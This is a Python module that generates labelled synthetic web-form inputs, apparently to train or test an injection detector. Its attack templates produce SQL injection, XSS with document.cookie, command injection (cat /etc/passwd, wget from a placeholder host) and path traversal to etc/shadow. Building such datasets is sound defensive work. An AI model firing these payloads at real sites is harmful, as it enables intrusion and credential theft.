"""Templates of our own for what people type into web forms, and for what attacks on them look like."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from random import Random

__all__ = ["attack", "benign"]


def _list(text: str, separator: str = " ") -> list[str]:
    return text.split(separator)


_FIRST = _list(
    "anna ben carla dmitri elena farid gita hugo ines jonas karim lena marco nadia omar paula rosa sven tara"
)
_LAST = _list("almeida becker castillo dupont eriksen ferrari garcia hansen ivanov jansen lopez moreau nielsen okafor")
_STREET = _list("calle mayor,via roma,main street,rue du bac,lindenweg,avenida sol,mill lane,kings road", ",")
_CITY = _list("lisbon porto madrid sevilla paris lyon berlin bremen oslo turku milan parma vienna graz prague brno")
_ITEM = _list("lamp desk chair kettle jacket bicycle radio camera guitar notebook carpet mirror bottle backpack")
_COLOUR = _list("red blue green black white silver golden brown grey purple orange turquoise")
_WORD = _list(
    "order union table drop select group where update insert script alert cookie image source window document value "
    "file system admin user password login root option price store market travel music garden winter coffee school"
)
_PLAIN = _list("please could you send the invoice again because my order has not arrived and the colour is not right")
_HOST = _list("example.com example.org example.net mail.example shop.example")
_COLUMN = _list("id name email password token price card secret created owner salary phone hash role session")
_TABLE = _list("users accounts members orders products customers admins sessions payments staff clients invoices")
_EVENT = _list("onload onerror onclick onfocus onmouseover oninput ontoggle onblur onkeyup onsubmit")
_TAG = _list("img svg body input video iframe details object embed a div marquee")
_COMMAND = _list("id,whoami,uname -a,cat /etc/passwd,ls -la /tmp,ping -c 3 10.0.0.1,wget http://x.example/a", ",")
_PATH = _list("etc/passwd,etc/shadow,windows/win.ini,boot.ini,proc/self/environ,var/log/auth.log,etc/hosts", ",")

Rule = Callable[[Random], str]


def benign(rng: Random, hard: float) -> tuple[str, str]:
    """One harmless input and its class; with probability ``hard`` one that resembles an attack."""
    return rng.choice(_BENIGN_HARD if rng.random() < hard else _BENIGN)(rng), "norm"


def attack(rng: Random, hard: float) -> tuple[str, str]:
    """One attack and its class; with probability ``hard`` one that resembles a harmless input."""
    if rng.random() < hard:
        return rng.choice(_ATTACK_HARD)(rng), "sqli"
    name = rng.choices(tuple(_ATTACK), weights=(9, 5, 2, 2))[0]
    return _case(rng, rng.choice(_ATTACK[name])(rng)), name


def _number(rng: Random) -> str:
    return str(rng.randrange(10 ** rng.randint(1, 6)))


def _words(rng: Random, source: Sequence[str], low: int, high: int) -> str:
    return " ".join(rng.choice(source) for _ in range(rng.randint(low, high)))


def _token(rng: Random) -> str:
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(3, 7)))


def _case(rng: Random, text: str) -> str:
    style = rng.random()
    return text.upper() if style < 0.2 else text.title() if style < 0.25 else text


def _space(rng: Random) -> str:
    return rng.choice((" ", " ", " ", "/**/", "+", "\t", "%20"))


def _quote(rng: Random) -> str:
    return rng.choice(("'", '"', "')", '")', "'))", "", ""))


def _end(rng: Random) -> str:
    return rng.choice(("--", "-- -", "#", "/*", "", f"-- {_token(rng)}", f" and '{_token(rng)}'='{_token(rng)}"))


_BENIGN: tuple[Rule, ...] = (
    lambda r: f"{r.choice(_FIRST)} {r.choice(_LAST)} {r.choice(_LAST)}",
    lambda r: f"{r.choice(_STREET)} {_number(r)}, {r.choice(_CITY)}",
    lambda r: f"{r.choice(_FIRST)}.{r.choice(_LAST)}{_number(r)}@{r.choice(_HOST)}",
    lambda r: f"{r.choice(_COLOUR)} {r.choice(_ITEM)} {r.choice(_COLOUR)} {_number(r)} cm",
    lambda r: _words(r, _PLAIN, 3, 9),
    lambda r: _words(r, _WORD, 2, 4),
    lambda r: _token(r) + _number(r) + _token(r),
    lambda r: f"{_number(r)}-{_number(r)}/{_token(r)}",
    lambda r: f"{r.choice(_ITEM)}={_number(r)}&{r.choice(_COLUMN)}={_token(r)}",
    lambda r: f"https://{r.choice(_HOST)}/{r.choice(_ITEM)}/{_token(r)}.html",
    lambda r: f"{r.choice(_FIRST)}, {_words(r, _PLAIN, 2, 5)}!",
    lambda r: f"{r.choice(_CITY)} ({r.choice(_CITY)}) {_number(r)}",
    lambda r: f"{r.randrange(1, 29)}.{r.randrange(1, 13)}.20{r.randrange(10, 30)} {r.choice(_CITY)} {_token(r)}",
    lambda r: _number(r) + _number(r),
)

_BENIGN_HARD: tuple[Rule, ...] = (
    lambda r: f"{r.choice(_FIRST)} o'{r.choice(_LAST)} -- {r.choice(_CITY)}",
    lambda r: f"select {r.choice(_ITEM)} from {r.choice(_CITY)} where {r.choice(_COLOUR)}",
    lambda r: f"union {r.choice(_WORD)} and {r.choice(_TABLE)} or {_number(r)}={_number(r)}",
    lambda r: f"{r.choice(_ITEM)} <b>{r.choice(_COLOUR)}</b> {_token(r)}",
    lambda r: f"../{_token(r)}/{r.choice(_ITEM)}.png",
    lambda r: f"drop {r.choice(_TABLE)}; {_words(r, _PLAIN, 1, 3)}",
    lambda r: f"{r.choice(_ITEM)} > {_number(r)} and {r.choice(_ITEM)} < {_number(r)}",
    lambda r: f"the {r.choice(_TAG)} tag and {r.choice(_EVENT)}() in {_token(r)}",
    lambda r: f"'{_words(r, _WORD, 2, 3)}' ({_number(r)})",
    # Questions of developers and pupils: letter for letter what an attack may be, so no filter gets all of them right.
    lambda r: f"{_number(r)} or {_number(r)}={_number(r)} #{_token(r)}",
    lambda r: f"why is {_token(r)}=alert({_number(r)}) in <{r.choice(_TAG)} {r.choice(_EVENT)}>",
)

_ATTACK: dict[str, tuple[Rule, ...]] = {
    "sqli": (
        lambda r: f"{_number(r)}{_quote(r)}{_space(r)}or{_space(r)}{_number(r)}={_number(r)}{_end(r)}",
        lambda r: f"{_token(r)}{_quote(r)} and '{_token(r)}'='{_token(r)}'{_end(r)}",
        lambda r: (
            f"{_number(r)}{_quote(r)}{_space(r)}union{_space(r)}all select "
            f"{','.join(r.choice(('null', *_COLUMN)) for _ in range(r.randint(1, 6)))} from {r.choice(_TABLE)}{_end(r)}"
        ),
        lambda r: f"{_token(r)}{_quote(r)}; drop table {r.choice(_TABLE)}{_end(r)}",
        lambda r: (
            f"{_number(r)}{_quote(r)} and (select {r.choice(_COLUMN)} from {r.choice(_TABLE)} limit 1)={_number(r)}"
        ),
        lambda r: f"{_number(r)}{_quote(r)} and sleep({_number(r)}){_end(r)}",
        lambda r: f"{_token(r)}{_quote(r)} waitfor delay '0:0:{_number(r)}'{_end(r)}",
        lambda r: f"{_token(r)}{_quote(r)} or ascii(substr({r.choice(_COLUMN)},{_number(r)},1))>{_number(r)}{_end(r)}",
        lambda r: f"{_token(r)}{_quote(r)} group by {r.choice(_TABLE)}.{r.choice(_COLUMN)} having 1=1{_end(r)}",
    ),
    "xss": (
        lambda r: f"<script>alert({r.choice((_number(r), repr(_token(r)), 'document.cookie'))})</script>{_token(r)}",
        lambda r: f"<{r.choice(_TAG)} src={_token(r)} {r.choice(_EVENT)}=alert({_number(r)})>",
        lambda r: f'"><{r.choice(_TAG)} {r.choice(_EVENT)}="{_token(r)}({_number(r)})">',
        lambda r: f"javascript:{_token(r)}('{_token(r)}');//{_token(r)}",
        lambda r: f"<{r.choice(_TAG)}/{r.choice(_EVENT)}=eval(atob('{_token(r)}{_token(r)}'))>",
    ),
    "cmdi": (
        lambda r: f"{_token(r)}{r.choice((';', '|', '&&', '||', '`'))}{r.choice(_COMMAND)} {_token(r)}",
        lambda r: f"$({r.choice(_COMMAND)}) > /tmp/{_token(r)}",
    ),
    "path-traversal": (
        lambda r: "../" * r.randint(2, 9) + r.choice(_PATH) + r.choice(("", "%00")) + _token(r),
        lambda r: f"/{_token(r)}/" + r.choice(("..%2f", "..\\", "....//")) * r.randint(2, 7) + r.choice(_PATH),
    ),
}

_ATTACK_HARD: tuple[Rule, ...] = (
    lambda r: f"{_number(r)}-{_number(r)}/{_token(r)}",
    lambda r: f"{r.choice(_COLUMN)} desc, {r.choice(_COLUMN)}",
    lambda r: f"{r.choice(_FIRST)} or {_token(r)}",
    lambda r: f"{r.choice(_TABLE)} {r.choice(_COLUMN)} {_number(r)}",
    lambda r: f"{_token(r)} like {_token(r)}",
    lambda r: f"{_words(r, _WORD, 2, 3)}",
)
